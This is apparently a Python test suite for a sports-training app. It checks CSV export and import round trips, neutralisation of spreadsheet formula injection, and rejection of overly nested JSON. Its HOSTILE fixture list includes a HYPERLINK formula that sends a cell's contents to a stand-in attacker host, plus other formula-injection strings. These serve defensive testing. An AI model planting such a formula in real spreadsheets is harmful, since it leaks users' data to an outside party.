"""Export -> import -> export: an exported CSV imports back unchanged, also into another program, text a
spreadsheet would run as a formula is neutralised on the way out and restored on the way in, and a
pathological metrics_json cell is a row error."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, time, timedelta
from typing import Any
from uuid import UUID

import pytest

from tests.support import factories
from tests.support.api import Api
from tests.support.seasons import Seasons, build
from trainingops.sessions.export import EXPORT_COLUMNS

# Cells athletes and coaches write that a spreadsheet would otherwise run (OWASP, "CSV Injection").
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-5 reps, then 3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rReturn first",
    "'=already quoted",
    "'plain apostrophe",
    "normal, with comma\nand a line",
]
# Columns the server derives or that name where a row came from: not compared.
SERVER_OWN = {
    "id",
    "external_id",
    "import_batch_id",
    "created_at",
    "updated_at",
    "practice_session_id",
    "practice_session_workout_id",
    "workout_id",
}


@pytest.fixture
def seasons(api: Api) -> Seasons:
    with api.admin() as conn:
        w = build(conn)
        for i, text in enumerate(HOSTILE):  # coach-assigned sessions of Ana in P: planned, completed, seasonless
            day = w.today + timedelta(days=i - 4)
            done = datetime.combine(day, time(17, 45), UTC) if day < w.today else None
            factories.session(
                conn,
                w.ids["ana"],
                source="coach_assigned",
                coach_member_id=w.ids["cp"],
                team_season_id=w.ids["p_current"] if i % 3 else None,
                scheduled_date=day,
                completed_at=done,
                workout_category="run" if i % 2 else "gym",
                title=text,
                planned_description=HOSTILE[-1 - i],
                planned_distance_m=1000 * i or None,
                planned_duration_sec=1800 + i,
                planned_rpe=1 + i,
                actual_distance_m=1100 * i if done else None,
                actual_rpe=2 + i if done else None,
                actual_description=text if done else None,
                metrics_json=json.dumps({"note": text, "splits": [{"km": 1, "sec": 240 + i}]}) if done else None,
            )
        factories.session(conn, w.ids["ana"], scheduled_date=w.today - timedelta(days=2), title="=my own run")
        gone = factories.member(conn, w.ids["p"], factories.user(conn, "Former coach"), "assistant_coach", active=False)
        w.ids["cx"] = gone
        factories.session(
            conn,
            w.ids["ana"],
            source="coach_assigned",
            coach_member_id=gone,
            scheduled_date=w.today - timedelta(days=30),
            title="From a coach who has left",
        )
        conn.commit()
    return w


def call(api: Api, user_id: UUID, method: str, path: str, **kwargs: Any) -> Any:
    headers = {
        "Authorization": f"Bearer {api.tokens.issue(user_id, ttl=timedelta(hours=1))}",
        **kwargs.pop("headers", {}),
    }
    return api.client.request(method, path, headers=headers, **kwargs)


def export(api: Api, user_id: UUID, athlete: UUID, source: str) -> str:
    response = call(api, user_id, "GET", f"/api/v1/sessions:export?athlete_id={athlete}&source={source}")
    assert response.status_code == 200, response.text
    return str(response.text)


def import_csv(api: Api, user_id: UUID, text: str) -> dict[str, Any]:
    response = call(
        api, user_id, "POST", "/api/v1/sessions:import", content=text.encode(), headers={"Content-Type": "text/csv"}
    )
    assert response.status_code in (200, 201), response.text
    report: dict[str, Any] = response.json()
    return report


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def remap(text: str, mapping: dict[str, str]) -> str:
    """What a user does to move a file to another program: the season and coach ids become that program's."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=EXPORT_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    for row in rows(text):
        for column in ("team_season_id", "coach_member_id"):
            row[column] = mapping.get(row[column], row[column])
        writer.writerow(row)
    return out.getvalue()


def test_an_export_imports_into_a_fresh_program_and_exports_the_same(api: Api, seasons: Seasons) -> None:
    w = seasons
    first = export(api, w.users["CP"], w.ids["ana"], "coach_assigned")
    assert list(rows(first)[0]) == list(EXPORT_COLUMNS)
    # neutralised for spreadsheets: every hostile cell starts with an apostrophe; numbers stay numbers
    expected = ["'" + t for t in HOSTILE[:6]] + [
        "''=already quoted",
        "'plain apostrophe",
        HOSTILE[8],
        "From a coach who has left",
    ]
    assert sorted(r["title"] for r in rows(first)) == sorted(expected)
    numbers = ("planned_distance_m", "planned_duration_sec", "planned_rpe", "actual_distance_m", "actual_rpe")
    assert all(r[c].isdigit() for r in rows(first) for c in numbers if r[c])
    mapping = {
        str(w.ids["p_current"]): str(w.ids["q_current"]),
        str(w.ids["cp"]): str(w.ids["cq"]),
        str(w.ids["cx"]): str(w.ids["cq"]),
    }
    report = import_csv(api, w.users["CQ"], remap(first, mapping))
    assert (report["created"], report["duplicates"]) == (len(HOSTILE) + 1, 0)
    second = export(api, w.users["CQ"], w.ids["ana"], "coach_assigned")
    # Q's copy is P's, cell for cell, but for the ids of where it lives; its external_id is P's session id.
    back = {str(w.ids["q_current"]): str(w.ids["p_current"]), str(w.ids["cq"]): str(w.ids["cp"])}
    compared = [c for c in EXPORT_COLUMNS if c not in SERVER_OWN]
    originals = {r["id"]: r for r in rows(first)}
    copies = rows(second)
    assert sorted(c["external_id"] for c in copies) == sorted(originals)
    for copy in copies:
        original = originals[copy["external_id"]]
        copy.update(
            team_season_id=back.get(copy["team_season_id"], copy["team_season_id"]),
            coach_member_id=back[copy["coach_member_id"]]
            if copy["title"] != "From a coach who has left"
            else str(w.ids["cx"]),
        )
        assert {c: copy[c] for c in compared} == {c: original[c] for c in compared}
        assert copy["import_batch_id"] == report["batch_id"]
    # Importing either file again where it already is adds nothing: each row finds its session.
    again = import_csv(api, w.users["CQ"], second)
    assert (again["created"], {d["match"] for d in again["duplicate_rows"]}) == (0, {"external_id"})
    home = import_csv(api, w.users["CP"], first)  # names a coach who has left: found, so not refused
    assert (home["created"], home["duplicates"]) == (0, len(HOSTILE) + 1)


def test_an_athlete_round_trips_her_own_sessions(api: Api, seasons: Seasons) -> None:
    w = seasons
    own = export(api, w.users["Ana"], w.ids["ana"], "self_assigned")
    assert [r["title"] for r in rows(own)] == ["'=my own run"]
    report = import_csv(api, w.users["Ana"], own)
    assert (report["created"], report["duplicates"]) == (0, 1)
    everything = call(api, w.users["Ana"], "GET", f"/api/v1/sessions:export?athlete_id={w.ids['ana']}").text
    report = import_csv(api, w.users["Ana"], everything)  # her coaches' sessions too: found, not refused
    assert (report["created"], report["duplicates"]) == (0, len(HOSTILE) + 2)


def test_the_feature_export_neutralises_text_and_leaves_negative_numbers_alone(tmp_path: Any) -> None:
    import pyarrow as pa
    import pyarrow.csv as pa_csv

    from trainingops.load.export import spreadsheet_safe

    table = spreadsheet_safe(pa.table({"athlete_id": ["=1+1", "ok"], "form": [-3.5, 2.0]}))
    pa_csv.write_csv(table, tmp_path / "f.csv")
    assert (tmp_path / "f.csv").read_text().splitlines()[1:] == ['"\'=1+1",-3.5', '"ok",2']


@pytest.mark.parametrize(
    ("cell", "detail"),
    [
        ("[" * 100_000, "Value error, nested too deeply: at most 16 levels"),
        ('{"a":' * 17 + "1" + "}" * 17, "Value error, metrics_json is nested too deeply: at most 16 levels"),
        ('{"a": 1', "Value error, not valid JSON (Expecting ',' delimiter at character 7)"),
    ],
)
def test_a_pathological_metrics_cell_is_a_row_error(api: Api, seasons: Seasons, cell: str, detail: str) -> None:
    w = seasons

    def post(metrics: str) -> Any:
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(("athlete_id", "team_season_id", "scheduled_date", "workout_category", "metrics_json"))
        writer.writerow((w.ids["ana"], w.ids["p_current"], w.today, "run", metrics))
        return call(
            api,
            w.users["CP"],
            "POST",
            "/api/v1/sessions:import",
            content=out.getvalue().encode(),
            headers={"Content-Type": "text/csv"},
        )

    response = post(cell)
    assert response.status_code == 422
    assert response.json()["code"] == "import_invalid"
    assert response.json()["errors"] == [{"row": 2, "column": "metrics_json", "detail": detail}]
    assert post('{"a":' * 15 + "[1]" + "}" * 15).status_code == 201  # 16 levels: fine


def test_the_same_depth_cap_holds_for_metrics_sent_as_json(api: Api, seasons: Seasons) -> None:
    w = seasons
    deep: dict[str, Any] = {"a": 1}
    for _ in range(16):
        deep = {"a": deep}  # 17 levels
    body = {"workout_category": "run", "completed_at": f"{w.today - timedelta(days=1)}T12:00:00Z", "metrics_json": deep}
    response = call(api, w.users["Ana"], "POST", "/api/v1/sessions", json=body)
    assert response.status_code == 422
    assert response.json()["code"] == "validation_failed"
    assert (
        call(api, w.users["Ana"], "POST", "/api/v1/sessions", json={**body, "metrics_json": deep["a"]}).status_code
        == 201
    )
